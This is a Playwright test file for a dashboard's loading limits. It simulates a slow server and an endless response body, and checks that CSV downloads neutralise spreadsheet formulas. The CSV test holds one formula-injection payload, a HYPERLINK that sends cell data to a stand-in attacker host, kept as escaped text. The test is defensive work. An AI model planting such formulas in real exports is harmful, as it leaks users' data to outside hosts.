// The limits the page states (src/lib/data/limits.ts, README "Limits"), against servers that
// misbehave: one that answers slowly, one that sends an endless body; and a hostile dataset whose
// text would be spreadsheet formulas, downloaded as CSV.
import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, expect, ROOT } from './fixtures.mjs';

const minimal = readFileSync(join(ROOT, 'tests/fixtures/minimal.json'));

/** A second origin that serves a dataset only when told, and one that never stops sending. */
async function misbehavingServer() {
  const waiting = [];
  let endlessSent = 0;
  let endlessClosed = false;
  const server = createServer((req, res) => {
    const cors = { 'access-control-allow-origin': '*', 'content-type': 'application/json' };
    if (req.url.startsWith('/slow')) {
      res.writeHead(200, cors);
      res.write(' '); // headers and a first byte, then nothing until released
      waiting.push(res);
    } else if (req.url.startsWith('/endless')) {
      res.writeHead(200, cors);
      const chunk = Buffer.alloc(1 << 20, 0x20);
      const pump = () => {
        while (!endlessClosed && res.write(chunk)) endlessSent += chunk.length;
        if (!endlessClosed) res.once('drain', pump);
      };
      req.on('close', () => (endlessClosed = true));
      res.on('close', () => (endlessClosed = true));
      pump();
    } else res.writeHead(404, cors).end();
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  const origin = `http://127.0.0.1:${server.address().port}`;
  return {
    origin,
    release: () => waiting.splice(0).forEach((res) => res.end(minimal)),
    endless: () => ({ sent: endlessSent, closed: endlessClosed }),
    close: () => {
      waiting.splice(0).forEach((res) => res.destroy());
      server.closeAllConnections();
      return new Promise((ok) => server.close(ok));
    },
  };
}

/** Runs `fn` with a misbehaving server, closed afterwards whatever happens. */
async function withServer(fn) {
  const server = await misbehavingServer();
  try {
    await fn(server);
  } finally {
    await server.close();
  }
}

test('limits: a slow server is named after 10 s; "Keep waiting" waits, and the data then loads', async ({
  page,
  origin,
  shot,
}) =>
  withServer(async (slow) => {
    await page.goto(`${origin}/?data=${encodeURIComponent(`${slow.origin}/slow.json`)}`);
    const alert = page.getByRole('alert');
    await alert.waitFor({ timeout: 20_000 });
    const text = await alert.innerText();
    expect(text, `says which server and how long: ${text}`).toMatch(
      /127\.0\.0\.1:\d+ has not sent the whole dataset after 10 seconds/,
    );
    await page.setViewportSize({ width: 375, height: 700 });
    await shot('limits-slow-375');
    await page.setViewportSize({ width: 1280, height: 900 });
    await shot('limits-slow-1280');
    await page.getByRole('button', { name: 'Keep waiting' }).click();
    await alert.waitFor({ state: 'detached' });
    expect(await page.getByRole('status').innerText(), 'still loading after "Keep waiting"').toContain('dataset');
    slow.release();
    await page.getByRole('figure', { name: /^UNGA sessions/ }).waitFor({ timeout: 20_000 });
  }));

test('limits: "Stop loading" ends the wait with a message that says what to do', async ({ page, origin }) =>
  withServer(async (slow) => {
    await page.goto(`${origin}/?data=${encodeURIComponent(`${slow.origin}/slow.json`)}`);
    await page.getByRole('button', { name: 'Stop loading' }).click({ timeout: 20_000 });
    const main = page.getByRole('main');
    await main
      .getByText(
        /stopped waiting for http:\/\/127\.0\.0\.1:\d+\/slow\.json after \d+ s: the server is slow or not answering/,
      )
      .waitFor();
    expect(await page.getByRole('button', { name: 'Keep waiting' }).count(), 'the choice is gone once made').toBe(0);
  }));

test('limits: the checking worker starts while the dataset downloads, and stops with "Stop loading"', async ({
  page,
  origin,
}) =>
  withServer(async (slow) => {
    await page.goto(`${origin}/?data=${encodeURIComponent(`${slow.origin}/slow.json`)}`);
    // The download is held open: the worker (its code loading now, not after the file) is there already.
    await page
      .getByRole('status')
      .getByText(/Downloading the dataset|Fetching the dataset/)
      .waitFor({ timeout: 20_000 });
    await expect
      .poll(() => page.workers().length, { message: 'one worker while the dataset downloads', timeout: 10_000 })
      .toBe(1);
    await page.getByRole('button', { name: 'Stop loading' }).click({ timeout: 20_000 });
    await page
      .getByRole('main')
      .getByText(/stopped waiting for/)
      .waitFor();
    await expect
      .poll(() => page.workers().length, { message: 'the worker is stopped with the download', timeout: 10_000 })
      .toBe(0);
  }));

test('limits: an endless body is cut at 128 MB with a message, and the download stops', async ({ page, origin }) =>
  withServer(async (server) => {
    await page.goto(`${origin}/?data=${encodeURIComponent(`${server.origin}/endless.json`)}`);
    await page
      .getByRole('main')
      .getByText(/endless\.json is too large \(more than 128 MB; the dashboard reads at most 128 MB\): split it/)
      .waitFor({ timeout: 60_000 });
    await expect.poll(() => server.endless().closed, { message: 'the page closed the connection' }).toBeTruthy();
    const { sent } = server.endless();
    expect(sent, `the server sent ${Math.round(sent / (1 << 20))} MB before the page stopped reading`).toBeLessThan(
      400 * (1 << 20),
    );
  }));

test('limits: CSV downloads neutralise formulas from a hostile dataset', async ({ page, origin }) => {
  await page.goto(`${origin}/?data=/tests/fixtures/hostile.json`);
  const frame = page.locator('[data-view="table"]');
  await frame.getByRole('figure', { name: /^Engagements/ }).waitFor();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    frame.getByRole('button', { name: /Download CSV/ }).click(),
  ]);
  const csv = Buffer.concat(await (await download.createReadStream()).toArray()).toString('utf8');
  const { csvParseRows } = await import('d3-dsv');
  const rows = csvParseRows(csv.replace(/^\ufeff#[^\n]*\n/, ''));
  const cells = rows.slice(1).flat();
  const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
  expect(live.length, `no cell starts a formula: ${live.join(' | ')}`).toBe(0);
  expect(cells, 'the formula text is kept, as text').toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
});
